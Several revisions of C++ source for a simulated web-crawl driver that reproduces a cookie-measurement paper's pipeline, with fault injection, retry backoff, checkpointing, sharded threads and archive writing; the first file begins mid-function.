  CrawlHealth& delta = outcome.delta;
  bool failed_before = false;
  TimeMillis backoff = 0;

  for (int attempt = 0;; ++attempt) {
    const fault::FaultDecision decision =
        plan.decide(bp.rank, attempt, options.visit_deadline_ms);
    instrument::VisitLog log =
        attempt_visit(visit, options, decision, extensions, backoff, attempt);
    ++delta.total_attempts;
    if (attempt > 0) ++delta.total_retries;
    if (log.failure != fault::FailureClass::kNone) {
      ++delta.attempt_failures[static_cast<int>(log.failure)];
    }

    if (!fault::is_fatal(log.failure)) {
      if (failed_before) ++delta.sites_recovered;
      if (log.failure == fault::FailureClass::kSubresourceFailure) {
        ++delta.sites_degraded;
      }
      outcome.log = std::move(log);
      break;
    }
    failed_before = true;
    if (attempt >= max_retries) {
      outcome.log = std::move(log);
      break;
    }
    // Exponential backoff with deterministic per-(site, attempt) jitter,
    // advanced on the virtual clock via the next attempt's clock shift.
    script::Rng jitter_rng(
        backoff_seed ^
        (0xB0FFULL + static_cast<std::uint64_t>(bp.rank) * 0xD1B54A32D192ED03ULL +
         static_cast<std::uint64_t>(attempt)));
    backoff += options.backoff_base_ms * (TimeMillis{1} << attempt);
    if (options.backoff_jitter_ms > 0) {
      backoff += static_cast<TimeMillis>(jitter_rng.below(
          static_cast<std::uint64_t>(options.backoff_jitter_ms) + 1));
    }
    if (obs::armed(obs::Detail::kCrawl)) {
      const std::uint64_t visit_seed =
          visit_seed_for(corpus_.params().seed, bp.rank);
      obs::instant(obs::Detail::kCrawl, "crawl", "backoff",
                   attempt_clock_start(options.browser_config, bp.rank,
                                       visit_seed, backoff),
                   std::to_string(backoff) + "ms");
    }
    if (obs::MetricsRegistry* m = obs::metrics()) {
      m->observe("crawl.backoff_ms", backoff_ms_bounds(),
                 static_cast<double>(backoff));
    }
  }

  ++delta.sites_attempted;
  if (fault::is_fatal(outcome.log.failure)) {
    ++delta.sites_excluded;
    ++delta.exclusions[static_cast<int>(outcome.log.failure)];
  } else {
    ++delta.sites_retained;
    delta.retained_ranks.push_back(bp.rank);
  }

  if (outcome.obs != nullptr) {
    if (obs::MetricsRegistry* m = obs::metrics()) {
      m->add("crawl.sites");
      m->add("crawl.attempts", delta.total_attempts);
      m->add("crawl.retries", delta.total_retries);
      m->add(fault::is_fatal(outcome.log.failure) ? "crawl.sites_excluded"
                                                  : "crawl.sites_retained");
      if (delta.sites_degraded > 0) m->add("crawl.sites_degraded");
      if (delta.sites_recovered > 0) m->add("crawl.sites_recovered");
    }
    // Site-level span covering first attempt start through last attempt
    // end, derived from the attempt spans already in the buffer.
    if (outcome.obs->trace.armed(obs::Detail::kCrawl)) {
      TimeMillis lo = 0, hi = 0;
      bool seen = false;
      for (const obs::TraceEvent& event : outcome.obs->trace.events()) {
        if (event.phase != 'X') continue;
        if (!seen || event.ts_ms < lo) lo = event.ts_ms;
        if (!seen || event.ts_ms + event.dur_ms > hi) {
          hi = event.ts_ms + event.dur_ms;
        }
        seen = true;
      }
      if (seen && obs::armed(obs::Detail::kCrawl)) {
        obs::instant(obs::Detail::kCrawl, "crawl", "site_done", hi,
                     outcome.log.site_host);
        obs::span(obs::Detail::kCrawl, "crawl", "site", lo, hi - lo);
      }
    }
  }

  // Encode the site's archive block here, on the shard worker — the
  // serialisation cost parallelises with the crawl; the merge thread only
  // appends bytes. Pure function of the log (and, for delta packs, of the
  // immutable base chain), so the archive stays byte-identical at any
  // thread count.
  if (options.archive != nullptr) {
    if (options.delta_base != nullptr) {
      const int top_wave = options.delta_base->waves() - 1;
      store::Error base_error;
      const auto base_payload =
          options.delta_base->payload_at(outcome.log.rank, top_wave,
                                         &base_error);
      // A base block that cannot be materialized (damaged chain tail)
      // degrades this site to a self-contained raw delta instead of
      // poisoning the whole wave.
      std::optional<std::string_view> base_view;
      if (base_payload) base_view = *base_payload;
      store::WaveBlock wave_block =
          store::make_wave_block(base_view, outcome.log);
      if (wave_block.kind == store::WaveBlock::Kind::kInherited) {
        outcome.archive_kind = SiteOutcome::ArchiveKind::kInherited;
      } else {
        outcome.archive_kind = SiteOutcome::ArchiveKind::kDelta;
        outcome.archive_block = std::move(wave_block.block);
      }
    } else {
      outcome.archive_kind = SiteOutcome::ArchiveKind::kSite;
      outcome.archive_block = store::encode_site_block(outcome.log);
    }
  }
  return outcome;
}

CrawlHealth Crawler::crawl_range(
    int first, int count, CrawlHealth health, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  const int n = std::min(std::max(count, 0), corpus_.size());
  const int begin = std::max(first, 0);
  const fault::FaultPlan plan = plan_for(options);

  int threads = options.threads == 1 ? 1
                : options.threads <= 0
                    ? runtime::ThreadPool::hardware_threads()
                    : options.threads;
  threads = std::min(threads, std::max(n - begin, 1));
  // Shared extension instances cannot be driven from several workers; only
  // the per-worker factory parallelizes extension-bearing crawls.
  if (!options.extra_extensions.empty() && !options.extension_factory) {
    threads = 1;
  }

  // Sites completed per shard worker, for checkpoint diagnostics. Relaxed
  // atomics: the values are a monitoring snapshot, not part of the
  // deterministic merge.
  std::vector<std::atomic<int>> shard_completed(
      threads > 1 ? static_cast<std::size_t>(threads) : 0);

  // The in-order fold: health, sink, progress, and checkpoints all happen
  // here, on the calling thread, once per site in index order — identical
  // whether outcomes arrive from the loop below or from shard workers.
  const auto finish_site = [&](int i, SiteOutcome&& outcome) {
    // Archive append happens FIRST, before the site's tallies fold into
    // health: if the block cannot be persisted even after the writer's
    // internal retry/heal budget, the site is quarantined — reclassified as
    // a kStorageFailure exclusion — and the crawl continues. The delta and
    // the worker's metric increments are rewritten before they merge, so
    // health, metrics, checkpoints, and the archive all agree that the
    // site is excluded (no silent divergence between the in-memory sink
    // and the on-disk block stream).
    bool archive_failed = false;
    if (options.archive != nullptr) {
      switch (outcome.archive_kind) {
        case SiteOutcome::ArchiveKind::kSite:
          archive_failed =
              !outcome.archive_block.empty() &&
              !options.archive->append_site_block(
                  outcome.log.rank, std::move(outcome.archive_block));
          break;
        case SiteOutcome::ArchiveKind::kDelta:
          archive_failed = !options.archive->append_delta_block(
              outcome.log.rank, std::move(outcome.archive_block));
          break;
        case SiteOutcome::ArchiveKind::kInherited:
          // No bytes hit the medium, but a dead writer still cannot
          // record the rank — same quarantine as a failed append.
          archive_failed = !options.archive->add_inherited(outcome.log.rank);
          break;
        case SiteOutcome::ArchiveKind::kNone:
          break;
      }
    }
    if (archive_failed) {
      CrawlHealth& delta = outcome.delta;
      const fault::FailureClass prior = outcome.log.failure;
      obs::MetricsRegistry* site_metrics =
          outcome.obs != nullptr && outcome.obs->metrics_enabled
              ? &outcome.obs->metrics
              : nullptr;
      if (!fault::is_fatal(prior)) {
        --delta.sites_retained;
        ++delta.sites_excluded;
        if (!delta.retained_ranks.empty()) delta.retained_ranks.pop_back();
        if (site_metrics != nullptr) {
          site_metrics->add("crawl.sites_retained", -1);
          site_metrics->add("crawl.sites_excluded");
        }
        if (delta.sites_degraded > 0) {
          --delta.sites_degraded;
          if (site_metrics != nullptr) {
            site_metrics->add("crawl.sites_degraded", -1);
          }
        }
        if (delta.sites_recovered > 0) {
          --delta.sites_recovered;
          if (site_metrics != nullptr) {
            site_metrics->add("crawl.sites_recovered", -1);
          }
        }
      } else {
        // Already excluded for a visit-level reason; the storage loss is
        // the more actionable class, so the exclusion is reclassified.
        --delta.exclusions[static_cast<int>(prior)];
      }
      outcome.log.failure = fault::FailureClass::kStorageFailure;
      ++delta.exclusions[static_cast<int>(fault::FailureClass::kStorageFailure)];
      if (site_metrics != nullptr) {
        site_metrics->add("crawl.sites_quarantined");
      }
      if (options.trace != nullptr) {
        options.trace->driver_instant(
            "crawl", "site_quarantined",
            outcome.log.site_host + ": " +
                options.archive->last_io_error().to_string());
      }
    }
    health.merge(outcome.delta);
    // Flush the site's observability buffers before the sink: trace buffers
    // append (stable-sorted) in site-index order, metrics fold through the
    // commutative merge — both byte-identical at any thread count.
    if (outcome.obs != nullptr) {
      if (options.trace != nullptr) {
        options.trace->append(std::move(outcome.obs->trace));
      }
      if (options.metrics != nullptr && outcome.obs->metrics_enabled) {
        options.metrics->merge(outcome.obs->metrics);
      }
      outcome.obs.reset();
    }
    sink(std::move(outcome.log));
    if (options.on_progress) options.on_progress(i + 1, n);
    if (options.checkpoint_interval > 0 && options.on_checkpoint &&
        (i + 1) % options.checkpoint_interval == 0) {
      // Durability barrier before the checkpoint exists: a checkpoint may
      // only reference archive bytes that survive a crash. If the barrier
      // cannot be established, this emission is skipped — the previous
      // checkpoint remains the recovery point, which is always safe.
      if (options.archive != nullptr &&
          !options.archive->sync_for_checkpoint()) {
        if (options.metrics != nullptr) {
          options.metrics->add("crawl.checkpoints_skipped");
        }
        if (options.trace != nullptr) {
          options.trace->driver_instant(
              "crawl", "checkpoint_skipped",
              options.archive->last_io_error().to_string());
        }
        return;
      }
      CrawlCheckpoint checkpoint;
      checkpoint.next_index = i + 1;
      checkpoint.target_count = n;
      checkpoint.corpus_seed = corpus_.params().seed;
      checkpoint.fault_seed = plan.enabled() ? plan.params().seed : 0;
      checkpoint.threads = threads;
      if (options.archive != nullptr) {
        // The archive reference: the segment holds exactly the merged
        // prefix, since blocks flush in finish_site before this emission.
        checkpoint.archive_sites = options.archive->sites_written();
        checkpoint.archive_bytes =
            static_cast<std::int64_t>(options.archive->bytes_written());
      }
      for (const auto& done : shard_completed) {
        checkpoint.shard_completed.push_back(
            done.load(std::memory_order_relaxed));
      }
      checkpoint.health = health;
      options.on_checkpoint(checkpoint);
      if (options.trace != nullptr) {
        options.trace->driver_instant("crawl", "checkpoint",
                                      "next_index=" + std::to_string(i + 1));
        options.trace->driver_counter("crawl", "sites_completed", i + 1);
      }
    }
  };

  if (threads <= 1) {
    std::vector<browser::Extension*> extensions = options.extra_extensions;
    if (options.extension_factory) {
      for (auto* extension : options.extension_factory(0)) {
        extensions.push_back(extension);
      }
    }
    for (int i = begin; i < n; ++i) {
      finish_site(i, crawl_site(i, options, plan, extensions));
    }
    if (options.scheduler_metrics != nullptr) {
      options.scheduler_metrics->gauge_max("scheduler.workers", 1);
    }
    return health;
  }

  // Sharded path. Each pool worker lazily builds its own extension set the
  // first time it executes a site; a slot is only ever touched by the pool
  // thread that owns it.
  struct WorkerExtensions {
    std::vector<browser::Extension*> installed;
    bool ready = false;
  };
  std::vector<WorkerExtensions> per_worker(
      static_cast<std::size_t>(threads));

  runtime::ShardOptions shard_options;
  shard_options.threads = threads;
  shard_options.queue_capacity = options.result_queue_capacity;
  runtime::ShardedRunner runner(shard_options);
  runner.run<SiteOutcome>(
      begin, n,
      [&](int index, int worker) {
        auto& extensions = per_worker[static_cast<std::size_t>(worker)];
        if (!extensions.ready) {
          if (options.extension_factory) {
            extensions.installed = options.extension_factory(worker);
          }
          extensions.ready = true;
        }
        SiteOutcome outcome =
            crawl_site(index, options, plan, extensions.installed);
        shard_completed[static_cast<std::size_t>(worker)].fetch_add(
            1, std::memory_order_relaxed);
        return outcome;
      },
      [&](int index, SiteOutcome&& outcome) {
        finish_site(index, std::move(outcome));
      });

  // Scheduler diagnostics live in their own registry: steal counts and
  // window occupancy genuinely differ across thread counts, so folding them
  // into `options.metrics` would break its byte-identity guarantee.
  if (options.scheduler_metrics != nullptr) {
    const auto& stats = runner.last_run_stats();
    auto& m = *options.scheduler_metrics;
    m.gauge_max("scheduler.workers", threads);
    m.add("scheduler.tasks_executed", stats.total_executed());
    m.add("scheduler.tasks_stolen", stats.total_stolen());
    m.add("scheduler.merge_pushes", stats.merge.pushes);
    m.add("scheduler.merge_blocked_pushes", stats.merge.blocked_pushes);
    m.gauge_max("scheduler.merge_max_occupancy", stats.merge.max_occupancy);
  }
  return health;
}

CrawlHealth Crawler::crawl(
    int count, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  return crawl_range(0, count, CrawlHealth{}, options, sink);
}

CrawlHealth Crawler::resume(
    const CrawlCheckpoint& checkpoint, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  return crawl_range(checkpoint.next_index, checkpoint.target_count,
                     checkpoint.health, options, sink);
}

}  // namespace cg::crawler
