#include "crawler/crawler.h"

#include <algorithm>
#include <memory>
#include <utility>

#include "browser/page.h"
#include "instrument/recorder.h"
#include "script/rng.h"

namespace cg::crawler {
namespace {

/// Per-site deterministic seed: results do not depend on crawl order.
std::uint64_t visit_seed_for(std::uint64_t corpus_seed, int rank) {
  return corpus_seed ^
         (0x5EEDULL + static_cast<std::uint64_t>(rank) * 2654435761ULL);
}

report::Json class_counts_to_json(
    const std::array<int, fault::kFailureClassCount>& counts) {
  auto out = report::Json::object();
  for (int c = 0; c < fault::kFailureClassCount; ++c) {
    if (counts[c] > 0) {
      out[std::string(
          fault::failure_class_name(static_cast<fault::FailureClass>(c)))] =
          counts[c];
    }
  }
  return out;
}

void class_counts_from_json(const report::Json* node,
                            std::array<int, fault::kFailureClassCount>& counts) {
  counts.fill(0);
  if (node == nullptr) return;
  for (int c = 0; c < fault::kFailureClassCount; ++c) {
    const auto* entry = node->find(
        fault::failure_class_name(static_cast<fault::FailureClass>(c)));
    if (entry != nullptr) counts[c] = static_cast<int>(entry->as_int());
  }
}

CrawlHealth health_from_json(const report::Json& j) {
  CrawlHealth health;
  const auto read_int = [&j](std::string_view key) {
    const auto* node = j.find(key);
    return node != nullptr ? static_cast<int>(node->as_int()) : 0;
  };
  health.sites_attempted = read_int("sites_attempted");
  health.sites_retained = read_int("sites_retained");
  health.sites_excluded = read_int("sites_excluded");
  health.sites_degraded = read_int("sites_degraded");
  health.sites_recovered = read_int("sites_recovered");
  health.total_attempts = read_int("total_attempts");
  health.total_retries = read_int("total_retries");
  class_counts_from_json(j.find("attempt_failures"), health.attempt_failures);
  class_counts_from_json(j.find("exclusions"), health.exclusions);
  if (const auto* ranks = j.find("retained_ranks"); ranks && ranks->is_array()) {
    health.retained_ranks.reserve(ranks->size());
    for (std::size_t i = 0; i < ranks->size(); ++i) {
      health.retained_ranks.push_back(static_cast<int>(ranks->at(i).as_int()));
    }
  }
  return health;
}

}  // namespace

report::Json CrawlHealth::to_json() const {
  auto j = report::Json::object();
  j["sites_attempted"] = sites_attempted;
  j["sites_retained"] = sites_retained;
  j["sites_excluded"] = sites_excluded;
  j["sites_degraded"] = sites_degraded;
  j["sites_recovered"] = sites_recovered;
  j["total_attempts"] = total_attempts;
  j["total_retries"] = total_retries;
  j["exclusion_rate"] = exclusion_rate();
  j["recovery_rate"] = recovery_rate();
  j["attempt_failures"] = class_counts_to_json(attempt_failures);
  j["exclusions"] = class_counts_to_json(exclusions);
  auto ranks = report::Json::array();
  for (const int rank : retained_ranks) ranks.push_back(rank);
  j["retained_ranks"] = std::move(ranks);
  return j;
}

std::string CrawlCheckpoint::to_json_string() const {
  auto j = report::Json::object();
  j["version"] = 1;
  j["next_index"] = next_index;
  j["target_count"] = target_count;
  j["corpus_seed"] = corpus_seed;
  j["fault_seed"] = fault_seed;
  j["health"] = health.to_json();
  return j.dump(2);
}

std::optional<CrawlCheckpoint> CrawlCheckpoint::from_json_string(
    std::string_view text) {
  const auto parsed = report::Json::parse(text);
  if (!parsed || !parsed->is_object()) return std::nullopt;
  const auto* next_index = parsed->find("next_index");
  const auto* target_count = parsed->find("target_count");
  const auto* health = parsed->find("health");
  if (!next_index || !target_count || !health || !health->is_object()) {
    return std::nullopt;
  }
  CrawlCheckpoint checkpoint;
  checkpoint.next_index = static_cast<int>(next_index->as_int());
  checkpoint.target_count = static_cast<int>(target_count->as_int());
  if (const auto* seed = parsed->find("corpus_seed")) {
    checkpoint.corpus_seed = static_cast<std::uint64_t>(seed->as_int());
  }
  if (const auto* seed = parsed->find("fault_seed")) {
    checkpoint.fault_seed = static_cast<std::uint64_t>(seed->as_int());
  }
  if (checkpoint.next_index < 0 || checkpoint.target_count < 0 ||
      checkpoint.next_index > checkpoint.target_count) {
    return std::nullopt;
  }
  checkpoint.health = health_from_json(*health);
  return checkpoint;
}

fault::FaultPlan Crawler::plan_for(const CrawlOptions& options) const {
  if (options.fault_plan.has_value()) {
    return fault::FaultPlan(*options.fault_plan);
  }
  if (options.simulate_log_loss) {
    // Compat shim: the old per-visit coin flip becomes the default fault
    // plan, keyed off the corpus seed so distinct corpora fail differently.
    fault::FaultPlanParams params;
    params.seed = corpus_.params().seed ^ params.seed;
    return fault::FaultPlan(params);
  }
  return {};
}

instrument::VisitLog Crawler::attempt_visit(int index,
                                            const CrawlOptions& options,
                                            const fault::FaultDecision& decision,
                                            TimeMillis clock_shift_ms,
                                            int attempt) const {
  const auto& bp = corpus_.site(index);
  const auto& params = corpus_.params();
  const std::uint64_t visit_seed = visit_seed_for(params.seed, bp.rank);

  // Stagger visit start times: the paper's crawl spans days, and identifier
  // timestamps embedded in cookie values must differ across visits. Retry
  // backoff shifts the clock further.
  browser::BrowserConfig browser_config = options.browser_config;
  browser_config.clock_start +=
      static_cast<TimeMillis>(bp.rank) * 77'777 +
      static_cast<TimeMillis>(visit_seed % 37'000) + clock_shift_ms;

  browser::Browser browser(browser_config, visit_seed);
  corpus_.attach(browser, bp);

  instrument::VisitLog log;
  log.rank = bp.rank;
  log.attempts = attempt + 1;

  fault::VisitFaults faults(
      decision, bp.host,
      visit_seed ^ (0xFA017ULL +
                    static_cast<std::uint64_t>(attempt) * 0x9E3779B97F4A7C15ULL));
  if (decision.active()) {
    if (faults.dns_fails()) {
      browser.dns().inject_failure(bp.host, net::DnsStatus::kNxDomain);
    }
    browser.network().set_fault_hook(
        [&faults](const net::HttpRequest& request) {
          return faults.on_request(request);
        });
    browser.network().set_response_hook(
        [&faults](const net::HttpRequest& request,
                  net::HttpResponse& response) {
          faults.on_response(request, response);
        });
  }

  instrument::Recorder recorder(options.attribution);
  recorder.set_visit_log(&log);
  for (auto* extension : options.extra_extensions) {
    browser.add_extension(extension);
  }
  browser.add_extension(&recorder);

  const TimeMillis visit_start = browser.clock().now();
  const auto deadline_blown = [&] {
    return options.visit_deadline_ms > 0 &&
           browser.clock().now() - visit_start > options.visit_deadline_ms;
  };
  bool recorder_crashed = false;

  const net::Url landing = net::Url::must_parse("https://" + bp.host + "/");
  auto page = browser.navigate(landing);
  if (!page) {
    log.failure = page.failure;
  } else if (deadline_blown()) {
    log.failure = fault::FailureClass::kDeadlineExceeded;
  } else {
    page->simulate_scroll();

    // Up to three random link clicks with 2 s pauses (§4.2).
    for (int click = 0; click < params.max_clicks; ++click) {
      const auto& links = page->spec().link_paths;
      if (links.empty()) break;
      browser.clock().advance(params.interaction_pause_ms);

      // The extension crash kills the recorder before the first page past
      // its survival index; already-buffered pages stay recorded.
      const int next_page = click + 1;
      if (decision.cls == fault::FailureClass::kExtensionCrash &&
          next_page > decision.crash_after_page && !recorder_crashed) {
        recorder.set_visit_log(nullptr);
        recorder_crashed = true;
      }

      const auto& path = links[browser.rng().below(links.size())];
      auto next = browser.navigate(landing.resolve(path));
      if (!next) {
        log.failure = next.failure;
        break;
      }
      page = std::move(next);
      page->simulate_scroll();
      if (deadline_blown()) {
        log.failure = fault::FailureClass::kDeadlineExceeded;
        break;
      }
    }
  }

  // Post-visit fault effects on the buffered logs. The background service
  // drops a channel whose buffer the fault corrupted — truncated Set-Cookie
  // headers poison the cookie log; a crash loses whichever channel was
  // still buffered client-side.
  if (log.failure == fault::FailureClass::kNone) {
    switch (decision.cls) {
      case fault::FailureClass::kTruncatedHeaders:
        log.has_cookie_logs = false;
        log.failure = decision.cls;
        break;
      case fault::FailureClass::kExtensionCrash:
        if (decision.crash_loses_cookie_channel) {
          log.has_cookie_logs = false;
        } else {
          log.has_request_logs = false;
        }
        log.failure = decision.cls;
        break;
      case fault::FailureClass::kSubresourceFailure:
        log.failure = decision.cls;
        break;
      default:
        break;
    }
  }

  // Safety net: a log missing a channel with no recorded cause is still
  // unusable for analysis.
  if (log.failure == fault::FailureClass::kNone &&
      !(log.has_cookie_logs && log.has_request_logs)) {
    log.failure = fault::FailureClass::kIncompleteLogs;
  }

  // Visits that died before any page finished never met the recorder; name
  // the site anyway so partial logs are attributable.
  if (log.site_host.empty()) log.site_host = bp.host;
  if (log.site.empty()) log.site = bp.site;
  return log;
}

instrument::VisitLog Crawler::visit(int index,
                                    const CrawlOptions& options) const {
  // A single clean visit: the measurement content of a site, independent of
  // crawl-pipeline weather. Faults only apply through crawl().
  return attempt_visit(index, options, fault::FaultDecision{},
                       /*clock_shift_ms=*/0, /*attempt=*/0);
}

CrawlHealth Crawler::crawl_range(
    int first, int count, CrawlHealth health, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  const int n = std::min(std::max(count, 0), corpus_.size());
  const fault::FaultPlan plan = plan_for(options);
  const int max_retries = std::max(options.max_retries, 0);
  const std::uint64_t backoff_seed =
      plan.enabled() ? plan.params().seed : corpus_.params().seed;

  for (int i = std::max(first, 0); i < n; ++i) {
    const auto& bp = corpus_.site(i);
    instrument::VisitLog final_log;
    bool failed_before = false;
    TimeMillis backoff = 0;

    for (int attempt = 0;; ++attempt) {
      const fault::FaultDecision decision =
          plan.decide(bp.rank, attempt, options.visit_deadline_ms);
      instrument::VisitLog log =
          attempt_visit(i, options, decision, backoff, attempt);
      ++health.total_attempts;
      if (attempt > 0) ++health.total_retries;
      if (log.failure != fault::FailureClass::kNone) {
        ++health.attempt_failures[static_cast<int>(log.failure)];
      }

      if (!fault::is_fatal(log.failure)) {
        if (failed_before) ++health.sites_recovered;
        if (log.failure == fault::FailureClass::kSubresourceFailure) {
          ++health.sites_degraded;
        }
        final_log = std::move(log);
        break;
      }
      failed_before = true;
      if (attempt >= max_retries) {
        final_log = std::move(log);
        break;
      }
      // Exponential backoff with deterministic per-(site, attempt) jitter,
      // advanced on the virtual clock via the next attempt's clock shift.
      script::Rng jitter_rng(
          backoff_seed ^
          (0xB0FFULL + static_cast<std::uint64_t>(bp.rank) * 0xD1B54A32D192ED03ULL +
           static_cast<std::uint64_t>(attempt)));
      backoff += options.backoff_base_ms * (TimeMillis{1} << attempt);
      if (options.backoff_jitter_ms > 0) {
        backoff += static_cast<TimeMillis>(jitter_rng.below(
            static_cast<std::uint64_t>(options.backoff_jitter_ms) + 1));
      }
    }

    ++health.sites_attempted;
    if (fault::is_fatal(final_log.failure)) {
      ++health.sites_excluded;
      ++health.exclusions[static_cast<int>(final_log.failure)];
    } else {
      ++health.sites_retained;
      health.retained_ranks.push_back(bp.rank);
    }
    sink(std::move(final_log));

    if (options.on_progress) options.on_progress(i + 1, n);
    if (options.checkpoint_interval > 0 && options.on_checkpoint &&
        (i + 1) % options.checkpoint_interval == 0) {
      CrawlCheckpoint checkpoint;
      checkpoint.next_index = i + 1;
      checkpoint.target_count = n;
      checkpoint.corpus_seed = corpus_.params().seed;
      checkpoint.fault_seed = plan.enabled() ? plan.params().seed : 0;
      checkpoint.health = health;
      options.on_checkpoint(checkpoint);
    }
  }
  return health;
}

CrawlHealth Crawler::crawl(
    int count, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  return crawl_range(0, count, CrawlHealth{}, options, sink);
}

CrawlHealth Crawler::resume(
    const CrawlCheckpoint& checkpoint, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  return crawl_range(checkpoint.next_index, checkpoint.target_count,
                     checkpoint.health, options, sink);
}

}  // namespace cg::crawler
