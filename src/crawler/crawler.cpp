#include "crawler/crawler.h"

#include <memory>

#include "browser/page.h"
#include "instrument/recorder.h"

namespace cg::crawler {

instrument::VisitLog Crawler::visit(int index,
                                    const CrawlOptions& options) const {
  const auto& bp = corpus_.site(index);
  const auto& params = corpus_.params();

  // Per-site deterministic seed: results do not depend on crawl order.
  const std::uint64_t visit_seed =
      params.seed ^ (0x5EEDULL + static_cast<std::uint64_t>(bp.rank) * 2654435761ULL);

  // Stagger visit start times: the paper's crawl spans days, and identifier
  // timestamps embedded in cookie values must differ across visits.
  browser::BrowserConfig browser_config = options.browser_config;
  browser_config.clock_start +=
      static_cast<TimeMillis>(bp.rank) * 77'777 +
      static_cast<TimeMillis>(visit_seed % 37'000);

  browser::Browser browser(browser_config, visit_seed);
  corpus_.attach(browser, bp);

  instrument::VisitLog log;
  log.rank = bp.rank;

  instrument::Recorder recorder(options.attribution);
  recorder.set_visit_log(&log);
  for (auto* extension : options.extra_extensions) {
    browser.add_extension(extension);
  }
  browser.add_extension(&recorder);

  const net::Url landing = net::Url::must_parse("https://" + bp.host + "/");
  auto page = browser.navigate(landing);
  page->simulate_scroll();

  // Up to three random link clicks with 2 s pauses (§4.2).
  for (int click = 0; click < params.max_clicks; ++click) {
    const auto& links = page->spec().link_paths;
    if (links.empty()) break;
    browser.clock().advance(params.interaction_pause_ms);
    const auto& path = links[browser.rng().below(links.size())];
    page = browser.navigate(landing.resolve(path));
    page->simulate_scroll();
  }

  // Model the paper's collection losses: a fixed per-site subset of visits
  // lacks one log channel and is excluded from analysis.
  if (options.simulate_log_loss) {
    script::Rng loss_rng(params.seed ^
                         (0x10557ULL + static_cast<std::uint64_t>(bp.rank)));
    if (loss_rng.chance(params.log_loss_rate)) {
      if (loss_rng.chance(0.5)) {
        log.has_request_logs = false;
      } else {
        log.has_cookie_logs = false;
      }
    }
  }
  return log;
}

void Crawler::crawl(
    int count, const CrawlOptions& options,
    const std::function<void(instrument::VisitLog&&)>& sink) const {
  const int n = std::min(count, corpus_.size());
  for (int i = 0; i < n; ++i) {
    sink(visit(i, options));
  }
}

}  // namespace cg::crawler
