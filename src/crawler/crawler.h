// Crawl driver: reproduces the paper's data-collection pipeline (§4.2).
//
// For each site: launch a fresh browser (fresh profile) with the measurement
// extension preloaded, load the landing page, scroll, click up to three
// random same-site links with 2-second pauses, and collect the visit log.
// Sites whose visit lacks either cookie logs or request logs are marked
// incomplete and excluded from analysis (paper: 14,917 of 20,000 retained).
#pragma once

#include <functional>
#include <vector>

#include "browser/browser.h"
#include "corpus/corpus.h"
#include "ext/attribution.h"
#include "instrument/records.h"

namespace cg::crawler {

struct CrawlOptions {
  /// Extra extensions (e.g. CookieGuard) installed *before* the measurement
  /// recorder, so they filter what the recorder observes. Non-owning.
  std::vector<browser::Extension*> extra_extensions;
  browser::BrowserConfig browser_config;
  ext::AttributionMode attribution = ext::AttributionMode::kLastExternal;
  /// Simulate the paper's incomplete-log sites (disable for paired
  /// with/without-CookieGuard comparisons where both runs must align).
  bool simulate_log_loss = true;
};

class Crawler {
 public:
  explicit Crawler(const corpus::Corpus& corpus) : corpus_(corpus) {}

  /// Visits site `index` (0-based) and returns its log.
  instrument::VisitLog visit(int index, const CrawlOptions& options = {}) const;

  /// Crawls sites [0, count) streaming each completed VisitLog into `sink`
  /// (logs are not retained — the 20k-site crawl would not fit in memory).
  void crawl(int count, const CrawlOptions& options,
             const std::function<void(instrument::VisitLog&&)>& sink) const;

  const corpus::Corpus& corpus() const { return corpus_; }

 private:
  const corpus::Corpus& corpus_;
};

}  // namespace cg::crawler
