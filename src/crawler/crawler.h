// Crawl driver: reproduces the paper's data-collection pipeline (§4.2),
// hardened the way a production fleet has to be.
//
// For each site: launch a fresh browser (fresh profile) with the measurement
// extension preloaded, load the landing page, scroll, click up to three
// random same-site links with 2-second pauses, and collect the visit log.
//
// Visits can fail — the fault plan injects DNS failures, connect timeouts,
// stalled responses, truncated Set-Cookie headers, script-fetch failures,
// and extension crashes — so the pipeline retries each site with
// exponential backoff advanced on the virtual clock, abandons visits that
// blow the per-visit deadline, degrades failed visits to a partial VisitLog
// tagged with its failure class, and checkpoints progress so an interrupted
// crawl resumes to the exact retained-site set of an uninterrupted run.
// Sites still incomplete after the retry budget are excluded from analysis;
// with the default plan ~25% are, matching the paper's 14,917-of-20,000
// retention as an emergent property rather than a coin flip.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "browser/browser.h"
#include "corpus/corpus.h"
#include "ext/attribution.h"
#include "fault/fault.h"
#include "instrument/records.h"
#include "report/json.h"

namespace cg::crawler {

struct CrawlCheckpoint;

struct CrawlOptions {
  /// Extra extensions (e.g. CookieGuard) installed *before* the measurement
  /// recorder, so they filter what the recorder observes. Non-owning.
  std::vector<browser::Extension*> extra_extensions;
  browser::BrowserConfig browser_config;
  ext::AttributionMode attribution = ext::AttributionMode::kLastExternal;

  /// Compatibility shim over the fault layer: enables the default fault
  /// plan (seeded from the corpus seed), which reproduces the paper's
  /// incomplete-log sites. Disable for paired with/without-CookieGuard
  /// comparisons where both runs must align.
  bool simulate_log_loss = true;
  /// Explicit fault plan; when set it overrides the simulate_log_loss shim
  /// entirely (including when simulate_log_loss is false).
  std::optional<fault::FaultPlanParams> fault_plan;

  /// Retries per site beyond the first attempt.
  int max_retries = 2;
  /// Exponential backoff between attempts — base doubles per retry, plus
  /// deterministic per-site jitter — advanced on the virtual clock.
  TimeMillis backoff_base_ms = 60'000;
  TimeMillis backoff_jitter_ms = 20'000;
  /// A visit whose simulated duration exceeds this is abandoned
  /// (kDeadlineExceeded). Generous against the timing model's worst case.
  TimeMillis visit_deadline_ms = 180'000;

  /// Emit a checkpoint to on_checkpoint every N completed sites (0 = off).
  int checkpoint_interval = 0;
  std::function<void(const CrawlCheckpoint&)> on_checkpoint;
  /// Invoked after each site completes (retained or excluded), exactly once
  /// per site in index order regardless of retries: (completed, total).
  std::function<void(int, int)> on_progress;
};

/// Aggregate crawl-pipeline accounting. Byte-identical across runs of the
/// same corpus seed + fault-plan seed (serialise with to_json().dump()).
struct CrawlHealth {
  int sites_attempted = 0;
  int sites_retained = 0;
  int sites_excluded = 0;
  /// Retained despite script-fetch failures (degraded visits).
  int sites_degraded = 0;
  /// Failed at least one attempt but retained after a retry.
  int sites_recovered = 0;
  int total_attempts = 0;
